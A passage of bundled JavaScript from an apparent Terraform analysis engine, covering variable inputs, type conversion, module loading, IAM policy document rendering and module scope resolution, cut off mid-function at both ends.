        piece = this.templateText(asBool(condition, "template condition") ? part.then : part.else, bindings);
      } else if (part.kind === "templateFor") {
        const collection = this.evaluate(part.collection, bindings);
        if (isUnknown(collection)) return Unknown;
        let entries;
        if (Array.isArray(collection)) entries = collection.map((item, index) => [index, item]);
        else if (isObject(collection)) entries = sortedKeys(collection).map((key) => [key, collection[key]]);
        else return fail("template for: cannot iterate");
        this.budget.expansion(entries.length, "a template for directive");
        let body = "";
        const inner = new Map(bindings);
        for (const [key, value] of entries) {
          if (part.keyVar) inner.set(part.keyVar, key);
          inner.set(part.valueVar, value);
          const rendered = this.templateText(part.body, inner);
          if (isUnknown(rendered)) return Unknown;
          body += rendered;
        }
        piece = body;
      } else {
        piece = this.evaluate(part, bindings);
        if (isUnknown(piece)) return Unknown;
        if (piece === null) fail("template interpolation value is null");
        if (Array.isArray(piece) || isObject(piece)) fail("cannot include a collection in a string template");
        piece = asString(piece);
      }
      text += piece;
      if (text.length > 16 * 1024 * 1024) fail("template result too large");
    }
    return text;
  }
};

// packages/engine/src/graph/terraform/inputs.ts
import { promises as fs4, readFileSync, realpathSync, statSync } from "node:fs";
import path6 from "node:path";
var NO_INPUTS = {
  commandLine: [],
  environment: [],
  readFile: () => void 0,
  parseTemplate: () => void 0,
  installed: /* @__PURE__ */ new Map(),
  manifests: /* @__PURE__ */ new Map()
};
var MAX_READ_BYTES = 4 * 1024 * 1024;
async function prepareTerraformInputs(options) {
  const diagnostics = [];
  const parser = await hclParser().catch(() => void 0);
  const parseValue = (name, text) => ({ name, text, expression: parser && parseExpression(parser, text) });
  const commandLine = [];
  for (const option of options.variables ?? []) {
    if ("file" in option) {
      const absolute = path6.resolve(options.cwd, option.file);
      const display = options.root ? toDisplay(options.root, absolute) : option.file;
      const text = await fs4.readFile(absolute, "utf8").catch(() => void 0);
      if (text === void 0) {
        diagnostics.push({ level: "error", code: "var-file-not-found", message: `variable file ${option.file} could not be read`, file: display });
        continue;
      }
      const loaded = absolute.toLowerCase().endsWith(".json") ? await loadTfJson({ path: display, text, kind: "tfvars" }) : await loadHcl({ path: display, text, kind: "tfvars" });
      diagnostics.push(...loaded.diagnostics);
      for (const document of loaded.documents) commandLine.push({ kind: "file", document });
    } else {
      commandLine.push({ kind: "var", variable: parseValue(option.name, option.value) });
    }
  }
  const environment = Object.entries(options.environment ?? {}).filter(([key]) => key.startsWith("TF_VAR_") && key.length > "TF_VAR_".length).sort(([a], [b]) => a < b ? -1 : a > b ? 1 : 0).map(([key, value]) => parseValue(key.slice("TF_VAR_".length), value));
  return {
    inputs: {
      commandLine,
      environment,
      readFile: fileReader(options.texts, options.root),
      parseTemplate: (text) => parser ? parseTemplate(parser, text) : void 0,
      installed: /* @__PURE__ */ new Map(),
      manifests: /* @__PURE__ */ new Map()
    },
    diagnostics
  };
}
function toDisplay(root, absolute) {
  const relative = path6.relative(root, absolute).split(path6.sep).join("/");
  return relative.startsWith("..") || path6.isAbsolute(relative) ? path6.basename(absolute) : relative;
}
function parseExpression(parser, text) {
  const loaded = loadHclWith(parser, { path: "-var", text: `value = ${text}
`, kind: "tfvars" });
  if (loaded.diagnostics.length > 0) return void 0;
  const attributes = loaded.documents[0]?.body.attributes ?? [];
  return attributes.length === 1 && attributes[0].name === "value" ? attributes[0].expression : void 0;
}
var TEMPLATE_MARKER = "TOLLGATE_TEMPLATE_END";
function parseTemplate(parser, text) {
  if (text.includes(TEMPLATE_MARKER)) return void 0;
  const endsWithNewline = text.endsWith("\n");
  const source = `value = <<${TEMPLATE_MARKER}
${text}${endsWithNewline ? "" : "\n"}${TEMPLATE_MARKER}
`;
  const loaded = loadHclWith(parser, { path: "template", text: source, kind: "tfvars" });
  if (loaded.diagnostics.length > 0) return void 0;
  const expression = loaded.documents[0]?.body.attributes[0]?.expression;
  if (!expression) return void 0;
  const parts = expression.kind === "template" ? [...expression.parts] : expression.kind === "literal" ? [String(expression.value)] : [expression];
  if (!endsWithNewline) {
    const last = parts[parts.length - 1];
    if (typeof last === "string" && last.endsWith("\n")) parts[parts.length - 1] = last.slice(0, -1);
  }
  return parts;
}
function fileReader(texts, root) {
  const realRoot = root ? safeRealpath(root) : void 0;
  const cache = /* @__PURE__ */ new Map();
  return (file) => {
    const normalized = path6.posix.normalize(file);
    if (normalized.startsWith("../") || normalized === ".." || path6.posix.isAbsolute(normalized)) return void 0;
    const known = texts.get(normalized);
    if (known !== void 0) return known;
    if (!root || !realRoot) return void 0;
    if (cache.has(normalized)) return cache.get(normalized);
    let text;
    try {
      const real = realpathSync(path6.join(root, normalized));
      const relative = path6.relative(realRoot, real);
      if (!relative.startsWith("..") && !path6.isAbsolute(relative) && statSync(real).isFile() && statSync(real).size <= MAX_READ_BYTES) {
        text = readFileSync(real, "utf8");
      }
    } catch {
      text = void 0;
    }
    cache.set(normalized, text);
    return text;
  };
}
function safeRealpath(directory) {
  try {
    return realpathSync(directory);
  } catch {
    return void 0;
  }
}
function directoryLister(texts, root) {
  return async (dir) => {
    const inMemory = [...texts.keys()].filter((file) => path6.posix.dirname(file) === dir);
    if (!root) return inMemory.filter(isTerraformFile).sort();
    const relative = path6.relative(root, path6.resolve(root, dir));
    if (relative.startsWith("..") || path6.isAbsolute(relative)) return inMemory.filter(isTerraformFile).sort();
    const names = await fs4.readdir(path6.join(root, dir)).catch(() => []);
    return [.../* @__PURE__ */ new Set([...inMemory, ...names.map((name) => path6.posix.join(dir, name))])].filter(isTerraformFile).sort();
  };
}
function isTerraformFile(file) {
  return file.endsWith(".tf") || file.endsWith(".tf.json");
}

// packages/engine/src/graph/terraform/installed-modules.ts
import path9 from "node:path";

// packages/engine/src/graph/terraform/modules.ts
import path8 from "node:path";

// packages/engine/src/graph/terraform/variables.ts
import path7 from "node:path";

// packages/engine/src/graph/terraform/types.ts
var ANY = { kind: "any" };
function readType(expression) {
  if (!expression) return ANY;
  if (expression.kind === "parenthesis") return readType(expression.expression);
  if (expression.kind === "traversal" && expression.steps.length === 0) {
    switch (expression.root) {
      case "string":
      case "number":
      case "bool":
        return { kind: expression.root };
      case "list":
      case "set":
      case "map":
        return { kind: expression.root, element: ANY };
      default:
        return ANY;
    }
  }
  if (expression.kind === "literal" && typeof expression.value === "string") {
    if (expression.value === "list") return { kind: "list", element: { kind: "string" } };
    if (expression.value === "map") return { kind: "map", element: { kind: "string" } };
    if (expression.value === "string") return { kind: "string" };
    return ANY;
  }
  if (expression.kind !== "call") return ANY;
  const [first, second] = expression.args;
  switch (expression.name) {
    case "list":
    case "set":
    case "map":
      return { kind: expression.name, element: readType(first) };
    case "tuple":
      return first?.kind === "tuple" ? { kind: "tuple", elements: first.items.map(readType) } : ANY;
    case "object": {
      if (first?.kind !== "object") return ANY;
      const attributes = /* @__PURE__ */ new Map();
      for (const item of first.items) {
        const name = item.key.kind === "traversal" && item.key.steps.length === 0 ? item.key.root : item.key.kind === "literal" ? String(item.key.value) : void 0;
        if (name === void 0) continue;
        const value = item.value;
        if (value.kind === "call" && value.name === "optional") {
          attributes.set(name, { type: readType(value.args[0]), optional: true, default: value.args[1] });
        } else {
          attributes.set(name, { type: readType(value), optional: false });
        }
      }
      return { kind: "object", attributes };
    }
    default:
      return second === void 0 ? ANY : ANY;
  }
}
function isComplexType(type) {
  return type.kind !== "any" && type.kind !== "string" && type.kind !== "number" && type.kind !== "bool";
}
function convertToType(value, type, defaultOf) {
  if (isUnknown(value) || value === null || type.kind === "any") return value;
  switch (type.kind) {
    case "string":
      if (Array.isArray(value) || isObject(value)) fail("a string is required");
      return asString(value);
    case "number":
      return asNumber(value);
    case "bool":
      if (typeof value === "number") fail("a bool is required");
      return asBool(value);
    case "list":
    case "set": {
      if (!Array.isArray(value)) fail(`a ${type.kind} is required`);
      const items = value.map((item) => convertToType(item, type.element, defaultOf));
      return type.kind === "set" ? toSet(items) : items;
    }
    case "map": {
      if (!isObject(value)) fail("a map is required");
      const map = emptyObject();
      for (const key of Object.keys(value)) map[key] = convertToType(value[key], type.element, defaultOf);
      return map;
    }
    case "tuple": {
      if (!Array.isArray(value) || value.length !== type.elements.length) fail("a tuple of the right length is required");
      return value.map((item, index) => convertToType(item, type.elements[index], defaultOf));
    }
    case "object": {
      if (!isObject(value)) fail("an object is required");
      const object = emptyObject();
      for (const [name, attribute] of type.attributes) {
        if (hasKey(value, name) && value[name] !== null) object[name] = convertToType(value[name], attribute.type, defaultOf);
        else if (attribute.optional) object[name] = attribute.default ? convertToType(defaultOf(attribute.default), attribute.type, defaultOf) : null;
        else if (hasKey(value, name)) object[name] = null;
        else fail(`attribute "${name}" is required`);
      }
      return object;
    }
  }
}

// packages/engine/src/graph/terraform/variables.ts
function readVariable(block, file) {
  const attribute = (name) => block.body.attributes.find((item) => item.name === name)?.expression;
  const literal = (name) => {
    const expression = attribute(name);
    return expression?.kind === "literal" ? expression.value : void 0;
  };
  return {
    name: block.labels[0],
    block,
    file,
    default: attribute("default"),
    type: attribute("type"),
    nullable: literal("nullable") !== false,
    sensitive: literal("sensitive") === true
  };
}
function automaticVariableFiles(variableFiles) {
  const byName = (document) => path7.posix.basename(document.file);
  const named = (name) => variableFiles.filter((document) => byName(document) === name);
  const auto = variableFiles.filter((document) => /\.auto\.tfvars(\.json)?$/.test(byName(document))).sort((a, b) => compareStrings(byName(a), byName(b)));
  return [...named("terraform.tfvars"), ...named("terraform.tfvars.json"), ...auto];
}
function rootAssignments(variableFiles, inputs) {
  const assignments = /* @__PURE__ */ new Map();
  for (const raw of inputs.environment) assignments.set(raw.name, { raw });
  const fromDocument = (document) => {
    for (const attribute of document.body.attributes) assignments.set(attribute.name, { expression: attribute.expression });
  };
  for (const document of automaticVariableFiles(variableFiles)) fromDocument(document);
  for (const input of inputs.commandLine) {
    if (input.kind === "file") fromDocument(input.document);
    else assignments.set(input.variable.name, { raw: input.variable });
  }
  return assignments;
}
function variableValue(declaration, assigned, evaluate2) {
  const type = readType(declaration?.type);
  let value;
  if (assigned && "raw" in assigned) {
    if (isComplexType(type)) value = assigned.raw.expression ? evaluate2(assigned.raw.expression) : Unknown;
    else value = assigned.raw.text;
  } else if (assigned) value = assigned.value;
  if (value === void 0 || value === null && declaration && !declaration.nullable) {
    value = declaration?.default ? evaluate2(declaration.default) : void 0;
  }
  if (value === void 0) return Unknown;
  try {
    return convertToType(value, type, evaluate2);
  } catch (error) {
    if (error instanceof EvaluationError) return Unknown;
    throw error;
  }
}

// packages/engine/src/graph/terraform/modules.ts
function declarationOf(block) {
  const [first, second] = block.labels;
  switch (block.type) {
    case "resource":
      return block.labels.length === 2 ? { type: first, mode: "managed", address: `${first}.${second}` } : void 0;
    case "data":
      return block.labels.length === 2 ? { type: first, mode: "data", address: `data.${first}.${second}` } : void 0;
    case "module":
      return block.labels.length === 1 ? { type: "module", mode: "module", address: `module.${first}` } : void 0;
    case "variable":
      return block.labels.length === 1 ? { type: "variable", mode: "variable", address: `var.${first}` } : void 0;
    case "output":
      return block.labels.length === 1 ? { type: "output", mode: "output", address: `output.${first}` } : void 0;
    case "provider": {
      if (block.labels.length !== 1) return void 0;
      const alias = block.body.attributes.find((attribute) => attribute.name === "alias");
      const aliasValue = alias ? evaluateStatic(alias.expression) : void 0;
      const suffix = typeof aliasValue === "string" ? `.${aliasValue}` : "";
      return { type: "provider", mode: "provider", address: `provider.${first}${suffix}` };
    }
    default:
      return void 0;
  }
}
function terraformModules(documents) {
  const modules = /* @__PURE__ */ new Map();
  const sorted = [...documents].sort((a, b) => a.file < b.file ? -1 : a.file > b.file ? 1 : 0);
  for (const document of sorted) {
    const dir = path8.posix.dirname(document.file);
    let module = modules.get(dir);
    if (!module) {
      module = { dir, documents: [], variableFiles: [], locals: /* @__PURE__ */ new Map(), declarations: /* @__PURE__ */ new Map(), variables: /* @__PURE__ */ new Map(), diagnostics: [] };
      modules.set(dir, module);
    }
    if (document.kind === "tfvars") {
      module.variableFiles.push(document);
      continue;
    }
    module.documents.push(document);
    for (const block of document.body.blocks) {
      if (block.type === "locals") {
        for (const attribute of block.body.attributes) {
          if (!module.locals.has(attribute.name)) module.locals.set(attribute.name, { expression: attribute.expression, file: document.file });
        }
        continue;
      }
      const declaration = declarationOf(block);
      if (!declaration) continue;
      const existing = module.declarations.get(declaration.address);
      if (existing) {
        module.diagnostics.push({
          level: "warning",
          code: "terraform-duplicate",
          message: `${document.file}:${block.range.start.line}:${block.range.start.column}: ${declaration.address} is already declared at ${existing.file}:${existing.block.headerRange.start.line}; the first declaration is used`,
          file: document.file,
          range: { file: document.file, ...block.headerRange }
        });
        continue;
      }
      module.declarations.set(declaration.address, { type: declaration.type, mode: declaration.mode, address: declaration.address, block, file: document.file, syntax: document.syntax });
      if (declaration.mode === "variable") module.variables.set(block.labels[0], readVariable(block, document.file));
    }
  }
  return [...modules.values()];
}
function moduleSource(block) {
  const source = block.body.attributes.find((attribute) => attribute.name === "source");
  const value = source ? evaluateStatic(source.expression) : void 0;
  return typeof value === "string" ? value : void 0;
}
function isLocalSource(source) {
  return source.startsWith("./") || source.startsWith("../") || source === "." || source === "..";
}
function localModuleDir(callerDir, source) {
  const joined = path8.posix.normalize(path8.posix.join(callerDir, source)).replace(/\/$/, "");
  if (joined === ".." || joined.startsWith("../")) return void 0;
  return joined === "" ? "." : joined;
}
function calledDirectories(modules) {
  const called = /* @__PURE__ */ new Set();
  for (const module of modules) {
    for (const declaration of module.declarations.values()) {
      if (declaration.mode !== "module") continue;
      const source = moduleSource(declaration.block);
      if (source === void 0 || !isLocalSource(source)) continue;
      const dir = localModuleDir(module.dir, source);
      if (dir !== void 0 && dir !== module.dir) called.add(dir);
    }
  }
  return called;
}
var MODULE_META_ARGUMENTS = /* @__PURE__ */ new Set(["source", "version", "count", "for_each", "providers", "depends_on"]);

// packages/engine/src/graph/terraform/installed-modules.ts
var MAX_INSTALLED_MODULES = 200;
var MAX_FILES_PER_MODULE = 200;
function installedModuleDir(inputs, rootDir, callPath) {
  return inputs.manifests.get(rootDir)?.get(callPath.join("."));
}
async function loadInstalledModules(documents, inputs, listFiles) {
  const diagnostics = [];
  const texts = /* @__PURE__ */ new Map();
  const callers = terraformModules(documents).filter(
    (module) => [...module.declarations.values()].some((declaration) => {
      if (declaration.mode !== "module") return false;
      const source = moduleSource(declaration.block);
      return source !== void 0 && !isLocalSource(source);
    })
  );
  for (const module of callers) {
    const manifestPath = path9.posix.join(module.dir, ".terraform/modules/modules.json");
    const manifestText = inputs.readFile(manifestPath);
    if (manifestText === void 0) continue;
    let entries;
    try {
      const parsed = JSON.parse(manifestText);
      entries = Array.isArray(parsed.Modules) ? parsed.Modules : [];
    } catch {
      diagnostics.push({ level: "warning", code: "terraform-modules-manifest", message: "not valid JSON; installed modules are not evaluated", file: manifestPath });
      continue;
    }
    const manifest = /* @__PURE__ */ new Map();
    for (const entry of entries.slice(0, MAX_INSTALLED_MODULES)) {
      if (typeof entry.Key !== "string" || typeof entry.Dir !== "string" || entry.Key === "") continue;
      const dir = path9.posix.normalize(path9.posix.join(module.dir, entry.Dir.replace(/\\/g, "/")));
      if (dir.startsWith("../") || dir === "..") continue;
      manifest.set(entry.Key, dir);
      if (!dir.includes(".terraform/") || inputs.installed.has(dir)) continue;
      const loaded = [];
      for (const file of (await listFiles(dir)).slice(0, MAX_FILES_PER_MODULE)) {
        const text = inputs.readFile(file);
        if (text === void 0) continue;
        texts.set(file, text);
        const result = file.endsWith(".tf.json") ? await loadTfJson({ path: file, text, kind: "terraform-json" }) : await loadHcl({ path: file, text, kind: "terraform" });
        loaded.push(...result.documents);
        diagnostics.push(...result.diagnostics.map((diagnostic) => ({ ...diagnostic, level: diagnostic.level === "error" ? "warning" : diagnostic.level })));
      }
      inputs.installed.set(dir, loaded);
    }
    inputs.manifests.set(module.dir, manifest);
  }
  return { diagnostics, texts };
}

// packages/engine/src/graph/terraform/scope.ts
import path10 from "node:path";

// packages/engine/src/graph/terraform/iam-policy-document.ts
var POLICY_DOCUMENT_TYPE = "aws_iam_policy_document";
function renderPolicyDocument(attributes) {
  const statements = [];
  const sources = documentsOf(attributes.source_policy_documents ?? attributes.source_json);
  const overrides = documentsOf(attributes.override_policy_documents ?? attributes.override_json);
  if (sources === void 0 || overrides === void 0) return { json: Unknown, minified: Unknown };
  for (const document2 of sources) statements.push(...statementsOf(document2));
  const own = attributes.statement;
  if (isUnknown(own)) return { json: Unknown, minified: Unknown };
  for (const block of asList(own)) {
    const statement = isObject(block) ? statementFromBlock(block) : Unknown;
    replaceOrAppend(statements, statement);
  }
  for (const document2 of overrides) for (const statement of statementsOf(document2)) replaceOrAppend(statements, statement);
  const document = emptyObject();
  document.Version = typeof attributes.version === "string" ? attributes.version : "2012-10-17";
  if (typeof attributes.policy_id === "string" && attributes.policy_id) document.Id = attributes.policy_id;
  document.Statement = statements;
  if (!isFullyKnown2(document)) return { json: document, minified: document };
  return { json: JSON.stringify(document, null, 2), minified: encodeJson(document).replace(/\\u003c/g, "<").replace(/\\u003e/g, ">").replace(/\\u0026/g, "&") };
}
function documentsOf(value) {
  if (value === void 0 || value === null) return [];
  if (isUnknown(value)) return void 0;
  const texts = typeof value === "string" ? [value] : Array.isArray(value) ? value : [];
  const documents = [];
  for (const text of texts) {
    if (isUnknown(text)) return void 0;
    if (typeof text !== "string" || text.trim() === "") continue;
    try {
      const parsed = JSON.parse(text);
      if (parsed && typeof parsed === "object" && !Array.isArray(parsed)) documents.push(parsed);
    } catch {
      return void 0;
    }
  }
  return documents;
}
function statementsOf(document) {
  const statements = document.Statement;
  if (Array.isArray(statements)) return statements;
  return statements === void 0 || statements === null ? [] : [statements];
}
function replaceOrAppend(statements, statement) {
  const sid = isObject(statement) && typeof statement.Sid === "string" && statement.Sid ? statement.Sid : void 0;
  if (sid !== void 0) {
    const existing = statements.findIndex((item) => isObject(item) && item.Sid === sid);
    if (existing !== -1) {
      statements[existing] = statement;
      return;
    }
  }
  statements.push(statement);
}
function statementFromBlock(block) {
  const statement = emptyObject();
  if (isUnknown(block.sid)) statement.Sid = Unknown;
  else if (typeof block.sid === "string" && block.sid) statement.Sid = block.sid;
  statement.Effect = block.effect === void 0 || block.effect === null ? "Allow" : block.effect;
  const fields = [
    ["actions", "Action"],
    ["not_actions", "NotAction"],
    ["resources", "Resource"],
    ["not_resources", "NotResource"]
  ];
  for (const [from, to] of fields) {
    const value = block[from];
    if (value === void 0 || value === null) continue;
    statement[to] = compactList(value);
  }
  const principals = principalsFromBlocks(block.principals);
  if (principals !== void 0) statement.Principal = principals;
  const notPrincipals = principalsFromBlocks(block.not_principals);
  if (notPrincipals !== void 0) statement.NotPrincipal = notPrincipals;
  const conditions = conditionsFromBlocks(block.condition);
  if (conditions !== void 0) statement.Condition = conditions;
  return statement;
}
function compactList(value) {
  if (isUnknown(value)) return Unknown;
  const items = distinctValues(Array.isArray(value) ? value : [value]);
  return items.length === 1 ? items[0] : items;
}
function principalsFromBlocks(value) {
  if (value === void 0 || value === null) return void 0;
  if (isUnknown(value)) return Unknown;
  const blocks = asList(value);
  if (blocks.length === 0) return void 0;
  const principal = emptyObject();
  for (const block of blocks) {
    if (!isObject(block)) return Unknown;
    if (block.type === "*") return "*";
    if (typeof block.type !== "string") return Unknown;
    const identifiers = isUnknown(block.identifiers) ? [Unknown] : asList(block.identifiers);
    const existing = principal[block.type];
    const merged = distinctValues([...Array.isArray(existing) ? existing : existing === void 0 ? [] : [existing], ...identifiers]);
    principal[block.type] = merged.length === 1 ? merged[0] : merged;
  }
  return principal;
}
function conditionsFromBlocks(value) {
  if (value === void 0 || value === null) return void 0;
  if (isUnknown(value)) return Unknown;
  const blocks = asList(value);
  if (blocks.length === 0) return void 0;
  const conditions = emptyObject();
  for (const block of blocks) {
    if (!isObject(block) || typeof block.test !== "string" || typeof block.variable !== "string") return Unknown;
    let operator = conditions[block.test];
    if (!isObject(operator)) {
      operator = emptyObject();
      conditions[block.test] = operator;
    }
    const values = isUnknown(block.values) ? [Unknown] : asList(block.values);
    const existing = operator[block.variable];
    const merged = [...Array.isArray(existing) ? existing : existing === void 0 ? [] : [existing], ...values];
    operator[block.variable] = merged.length === 1 ? merged[0] : merged;
  }
  return conditions;
}

// packages/engine/src/graph/terraform/scope.ts
var MAX_MODULE_DEPTH = 24;
function expansionValues(expansion) {
  if (expansion.kind === "count") return /* @__PURE__ */ new Map([["count", expansion.value]]);
  if (expansion.kind === "for_each") return /* @__PURE__ */ new Map([["for_each", expansion.value]]);
  return expansion.kind === "unknown" && expansion.known ? expansion.known : /* @__PURE__ */ new Map();
}
var IN_PROGRESS = /* @__PURE__ */ Symbol("in progress");
var ModuleScope = class _ModuleScope {
  constructor(run, module, address, rootDir, callChain, callPath, parent, ancestors = /* @__PURE__ */ new Set()) {
    this.run = run;
    this.module = module;
    this.address = address;
    this.rootDir = rootDir;
    this.callChain = callChain;
    this.callPath = callPath;
    this.parent = parent;
    this.ancestors = ancestors;
    this.budget = new Budget(run.inputs.budget?.maxSteps, run.inputs.budget?.maxExpansion);
    this.evaluator = new ExpressionEvaluator(this, this.budget, this.functionContext());
    this.#assignments = parent ? /* @__PURE__ */ new Map() : rootAssignments(module.variableFiles, run.inputs);
  }
  run;
  module;
  address;
  rootDir;
  callChain;
  callPath;
  parent;
  ancestors;
  evaluator;
  budget;
  #variables = /* @__PURE__ */ new Map();
  #locals = /* @__PURE__ */ new Map();
  #instances = /* @__PURE__ */ new Map();
  #children = /* @__PURE__ */ new Map();
  #outputs = /* @__PURE__ */ new Map();
  #assignments;
  #templates = /* @__PURE__ */ new Map();
  get isRoot() {
    return this.parent === void 0;
  }
  /** `module.app.` before addresses of this instance's objects; empty in a root module. */
  get prefix() {
    return this.address ? `${this.address}.` : "";
  }
  resolve(traversal, bindings) {
    const [first, second] = traversal.steps;
    const name = first?.type === "attr" ? first.name : void 0;
    switch (traversal.root) {
      case "var":
        return { value: name === void 0 ? Unknown : this.variable(name), consumed: 1 };
      case "local":
        return { value: name === void 0 ? Unknown : this.local(name), consumed: 1 };
      case "count":
      case "each":
      case "self":
        return { value: Unknown, consumed: 0 };
      case "path":
        return { value: this.paths(), consumed: 0 };
      case "terraform":
        return { value: markComputed(objectOf([["workspace", Unknown]])), consumed: 0 };
      case "module": {
        if (name === void 0) return { value: Unknown, consumed: 0 };
        const output = second?.type === "attr" ? second.name : void 0;
        const children = this.children(name);
        if (output !== void 0 && children?.length === 1 && this.callExpansionOf(name)?.kind === "single") {
          return { value: children[0].output(output), consumed: 2 };
        }
        return { value: this.moduleValue(name), consumed: 1 };
      }
      case "data": {
        const dataName = second?.type === "attr" ? second.name : void 0;
        if (name === void 0 || dataName === void 0) return { value: Unknown, consumed: 0 };
        return { value: this.resourceValue(`data.${name}.${dataName}`), consumed: 2 };
      }
      default:
        if (name === void 0) return { value: Unknown, consumed: 0 };
        return { value: this.resourceValue(`${traversal.root}.${name}`), consumed: 1 };
    }
  }
  paths() {
    const relative = path10.posix.relative(this.rootDir, this.module.dir);
    return objectOf([
      ["module", relative === "" ? "." : relative],
      ["root", "."],
      ["cwd", "."]
    ]);
  }
  /** A variable's value: from the module call or the root's inputs, else its default; typed. */
  variable(name) {
    const known = this.#variables.get(name);
    if (known === IN_PROGRESS) return Unknown;
    if (known !== void 0) return known;
    this.#variables.set(name, IN_PROGRESS);
    const declaration = this.module.variables.get(name);
    let assigned;
    if (this.parent) {
      const argument = this.parent.block.body.attributes.find((attribute) => attribute.name === name && !MODULE_META_ARGUMENTS.has(name));
      if (argument) assigned = { value: this.parent.scope.evaluator.evaluateOrUnknown(argument.expression, this.parent.bindings) };
    } else {
      const assignment = this.#assignments.get(name);
      if (assignment && "expression" in assignment) assigned = { value: this.evaluator.evaluateOrUnknown(assignment.expression) };
      else if (assignment) assigned = assignment;
    }
    const value = declaration || assigned ? variableValue(declaration, assigned, (expression) => this.evaluator.evaluateOrUnknown(expression)) : Unknown;
    this.#variables.set(name, value);
    return value;
  }
  local(name) {
    const known = this.#locals.get(name);
    if (known === IN_PROGRESS) {
      this.report("terraform-cycle", `local.${name} depends on itself; its value is unknown`, this.module.locals.get(name)?.file);
      return Unknown;
    }
    if (known !== void 0) return known;
    const local = this.module.locals.get(name);
    if (!local) return Unknown;
    this.#locals.set(name, IN_PROGRESS);
    const value = this.evaluator.evaluateOrUnknown(local.expression);
    this.#locals.set(name, value);
    return value;
  }
  /** What a reference to a resource or data source is: an object, a list (count), a map (for_each) of instances. */
  resourceValue(address) {
    const declaration = this.module.declarations.get(address);
    if (!declaration || declaration.mode !== "managed" && declaration.mode !== "data") return Unknown;
    if (declaration.mode === "data" && declaration.type !== POLICY_DOCUMENT_TYPE) return Unknown;
    const instances = this.instances(address);
    if (instances === void 0) return Unknown;
    const expansion = this.expansionOf(declaration.block);
    const value = (instance) => markComputed(instance.block.attributes);
    switch (expansion.kind) {
      case "single":
        return instances[0] ? value(instances[0]) : Unknown;
      case "count":
        return instances.map(value);
      case "for_each":
        return objectOf(instances.map((instance) => [String(instance.key), value(instance)]));
      case "unknown":
        return Unknown;
    }
  }
  /** The instances of a resource or data source, evaluated once; undefined while being evaluated (a cycle). */
  instances(address) {
    const known = this.#instances.get(address);
    if (known === IN_PROGRESS) return void 0;
    if (known) return known;
    const declaration = this.module.declarations.get(address);
    if (!declaration) return [];
    this.#instances.set(address, IN_PROGRESS);
    const values = expansionValues(this.expansionOf(declaration.block, address));
    const instances = this.expand(declaration, address).map(({ key, bindings, expanded }) => {
      const block = BlockEvaluator.evaluate(declaration.file, declaration.block, this.evaluator, bindings, values);
      if (declaration.mode === "data" && declaration.type === POLICY_DOCUMENT_TYPE) {
        const rendered = renderPolicyDocument(block.attributes);
        block.attributes.json = rendered.json;
        block.attributes.minified_json = rendered.minified;
      }
      return { address: `${this.prefix}${address}${keySuffix(key)}`, key, expanded, bindings, block };
    });
    this.#instances.set(address, instances);
    return instances;
  }
  /** Keys and bindings of a block's instances, from its `count` or `for_each`. */
  expand(declaration, address) {
    const expansion = this.expansionOf(declaration.block, address);
    switch (expansion.kind) {
      case "single":
        return [{ bindings: NO_BINDINGS, expanded: true }];
      case "count":
        return Array.from({ length: expansion.count }, (_, index) => ({
          key: index,
          bindings: /* @__PURE__ */ new Map([["count", objectOf([["index", index]])]]),
          expanded: true
        }));
      case "for_each":
        return expansion.entries.map(([key, value]) => ({
          key,
          bindings: /* @__PURE__ */ new Map([["each", objectOf([["key", key], ["value", value]])]]),
          expanded: true
        }));
      case "unknown":
        return [
          {
            bindings: /* @__PURE__ */ new Map([
              ["count", objectOf([["index", Unknown]])],
              ["each", objectOf([["key", Unknown], ["value", Unknown]])]
            ]),
            expanded: false
          }
        ];
    }
  }
  expansions = /* @__PURE__ */ new Map();
  expansionOf(block, address) {
    const known = this.expansions.get(block);
    if (known) return known;
    const expansion = this.computeExpansion(block, address);
    this.expansions.set(block, expansion);
    return expansion;
  }
  computeExpansion(block, address) {
    const count = block.body.attributes.find((attribute) => attribute.name === "count");
    const forEach = block.body.attributes.find((attribute) => attribute.name === "for_each");
    let known;
    try {
      if (count) {
        const value = this.evaluator.evaluateOrUnknown(count.expression);
        known = /* @__PURE__ */ new Map([["count", value]]);
        if (typeof value !== "number" && typeof value !== "string") return { kind: "unknown", known };
        const number = Number(value);
        if (!Number.isInteger(number) || number < 0) return { kind: "unknown", known };
        this.budget.expansion(number, `count of ${this.prefix}${address ?? block.labels.join(".")}`);
        return { kind: "count", count: number, value };
      }
      if (forEach) {
        const value = this.evaluator.evaluateOrUnknown(forEach.expression);
        known = /* @__PURE__ */ new Map([["for_each", value]]);
        const entries = forEachKeys(value);
        if (entries === void 0) return { kind: "unknown", known };
        this.budget.expansion(entries.length, `for_each of ${this.prefix}${address ?? block.labels.join(".")}`);
        return { kind: "for_each", entries, value };
      }
    } catch (error) {
      if (error instanceof EvaluationError) return { kind: "unknown", known };
      throw error;
    }
    return { kind: "single" };
  }
  /** The evaluated `count` or `for_each` of a declaration, shared by its instances' attributes. */
  expansionValues(declaration) {
    return expansionValues(this.expansionOf(declaration.block, declaration.address));
  }
  callExpansionOf(name) {
    const declaration = this.module.declarations.get(`module.${name}`);
    return declaration ? this.expansionOf(declaration.block, `module.${name}`) : void 0;
  }
  /** The instances of a module call; undefined when its module cannot be evaluated (not in the scan, not installed, a cycle). */
  children(name) {
    const known = this.#children.get(name);
    if (known === IN_PROGRESS) return void 0;
    if (this.#children.has(name)) return known;
    this.#children.set(name, IN_PROGRESS);
    const children = this.createChildren(name);
    this.#children.set(name, children);
    return children;
  }
  createChildren(name) {
    const declaration = this.module.declarations.get(`module.${name}`);
    if (!declaration) return void 0;
    const module = this.calledModule(name, declaration);
    if (!module) return void 0;
    const site = { name, location: { file: declaration.file, ...declaration.block.headerRange } };
    return this.expand(declaration, `module.${name}`).filter((instance) => instance.expanded).map(
      ({ key, bindings }) => new _ModuleScope(
        this.run,
        module,
        `${this.prefix}module.${name}${keySuffix(key)}`,
        this.rootDir,
        [site, ...this.callChain],
        [...this.callPath, name],
        { scope: this, block: declaration.block, bindings },
        /* @__PURE__ */ new Set([...this.ancestors, this.module.dir])
      )
    );
  }
  calledModule(name, declaration) {
    const source = moduleSource(declaration.block);
    const where = { file: declaration.file, ...declaration.block.headerRange };
    if (source === void 0) return void 0;
    let dir;
    if (isLocalSource(source)) dir = localModuleDir(this.module.dir, source);
    else dir = this.run.installedModuleDir(this.rootDir, [...this.callPath, name]);
    const module = dir === void 0 ? void 0 : this.run.modulesByDir.get(dir);
    if (!module) {
      const reason = isLocalSource(source) ? "is not in the scanned files" : "is not installed under .terraform/modules (run terraform init to evaluate it)";
      this.note("terraform-module-unavailable", `module "${name}" (source ${JSON.stringify(source)}) ${reason}; its outputs are unknown`, where);
      return void 0;
    }
